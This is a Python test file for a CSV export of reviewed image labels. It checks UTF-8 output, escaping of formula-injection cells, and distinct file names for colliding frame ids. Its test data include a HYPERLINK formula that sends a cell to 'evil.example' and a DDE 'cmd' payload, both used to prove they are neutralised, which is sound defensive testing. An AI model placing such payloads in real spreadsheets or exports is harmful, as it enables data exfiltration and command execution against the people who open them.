"""The exported reviewed.csv as its two readers take it: the trainer (UTF-8, path and label exactly as reviewed)
and a person opening it in a spreadsheet (a cell from a station or a reviewer is shown, never run as a formula)."""

from __future__ import annotations

import csv
import os
import subprocess
import sys

from loop_support import REPO, real_frames

from central.review.labels import CSV_NAME, export_reviewed
from central.review.store import FrameStore
from trainer.data import read_csv

HOSTILE_MODEL = '=HYPERLINK("http://evil.example/?"&A2,"open")'
HOSTILE_REASON = "+cmd|' /C calc'!A0"


def hostile_store(root) -> tuple[FrameStore, list]:
    """Two real frames: a new class named in Latin and CJK letters, and a frame whose station-sent text and
    reviewer's text each start a spreadsheet formula."""
    store = FrameStore(root, labels=["Bag"])
    first, second = real_frames(2)
    store.add(first.body, first.blob)
    store.add({**second.body, "model": {**second.body["model"], "name": HOSTILE_MODEL, "version": "-1+1"},
               "label": "@SUM(A1:A9)", "selected_because": [HOSTILE_REASON]}, second.blob)
    store.review(first.id, "new_class", label="Müsli 寿司", reviewer="Zoë", note="crème")
    store.review(second.id, "label", label="Bag", reviewer="=1+1", note="\tsee\r\nrow 2")
    return store, [first, second]


def test_the_csv_is_utf8_whatever_the_hosts_locale(tmp_path):
    """Given a host whose locale is ASCII (a bare container's C locale with Python's UTF-8 coercion off), when
    ``python -m central labels export`` runs, then it succeeds and the CSV is UTF-8: the trainer reads the new
    class's name as the reviewer wrote it."""
    store, [first, _] = hostile_store(tmp_path / "store")
    store.close()
    env = {**os.environ, "LC_ALL": "C", "LANG": "C", "PYTHONUTF8": "0", "PYTHONCOERCECLOCALE": "0"}
    done = subprocess.run([sys.executable, "-m", "central", "labels", "export", "--store", str(tmp_path / "store"),
                           "--out", str(tmp_path / "out")], cwd=REPO, env=env, capture_output=True, timeout=300)
    assert done.returncode == 0, done.stderr.decode(errors="replace")[-2000:]
    (tmp_path / "out" / CSV_NAME).read_bytes().decode("utf-8")
    dataset = read_csv(tmp_path / "out" / CSV_NAME)
    assert sorted(dataset.classes) == sorted(["Bag", "Müsli 寿司"])


def test_no_cell_from_a_station_or_a_reviewer_starts_a_formula_and_path_and_label_stay_exact(tmp_path):
    """Given station-sent text (model name and version, predicted label, why it was sent) and a reviewer's text
    (name, note) that start formulas, when the reviewed frames are exported, then a spreadsheet shows each as
    text (a ``'`` before it), the text is otherwise whole, and the trainer reads every path and label as before."""
    store, [first, second] = hostile_store(tmp_path / "store")
    try:
        export_reviewed(store, tmp_path / "out")
    finally:
        store.close()
    with open(tmp_path / "out" / CSV_NAME, newline="", encoding="utf-8") as fh:
        rows = {row["frame_id"]: row for row in csv.DictReader(fh)}
    for row in rows.values():
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    hostile = rows[second.id]
    assert hostile["model_name"] == "'" + HOSTILE_MODEL and hostile["model_version"] == "'-1+1"
    assert hostile["predicted"] == "'@SUM(A1:A9)" and hostile["selected_because"] == "'" + HOSTILE_REASON
    assert hostile["reviewer"] == "'=1+1" and hostile["note"] == "'\tsee\r\nrow 2"
    assert hostile["label"] == "Bag" and hostile["path"] == f"Bag/{second.id}.jpg" and hostile["track"] == ""
    plain = rows[first.id]
    assert plain["reviewer"] == "Zoë" and plain["note"] == "crème" and plain["model_name"] == "fashion-mnist"
    dataset = read_csv(tmp_path / "out" / CSV_NAME)
    assert sorted(dataset.classes) == sorted(["Bag", "Müsli 寿司"]) and len(dataset.samples) == 2


def test_frame_ids_that_share_a_plain_name_are_exported_as_two_images_under_one_label(tmp_path):
    """Given two reviewed frames of one label whose ids differ only in a character a file name cannot hold
    (``frame:1`` and ``frame_1``: only a direct ``FrameStore.add`` stores such ids, ingest takes UUIDs), when they
    are exported, then each CSV row names its own file holding its own JPEG (before, both rows named
    ``Bag/frame_1.jpg`` and the first frame's image was lost)."""
    store = FrameStore(tmp_path / "store", labels=["Bag"])
    try:
        for frame, frame_id in zip(real_frames(2), ("frame:1", "frame_1")):
            store.add({**frame.body, "id": frame_id}, frame.blob)
            store.review(frame_id, "label", label="Bag", reviewer="r")
        export_reviewed(store, tmp_path / "out")
        with open(tmp_path / "out" / CSV_NAME, newline="", encoding="utf-8") as fh:
            rows = {row["frame_id"]: row for row in csv.DictReader(fh)}
        assert len({row["path"] for row in rows.values()}) == 2
        for frame_id, row in rows.items():
            assert (tmp_path / "out" / row["path"]).read_bytes() == store.image_path(frame_id).read_bytes()
        assert rows["frame_1"]["path"] == "Bag/frame_1.jpg"      # a plain id keeps its name
    finally:
        store.close()
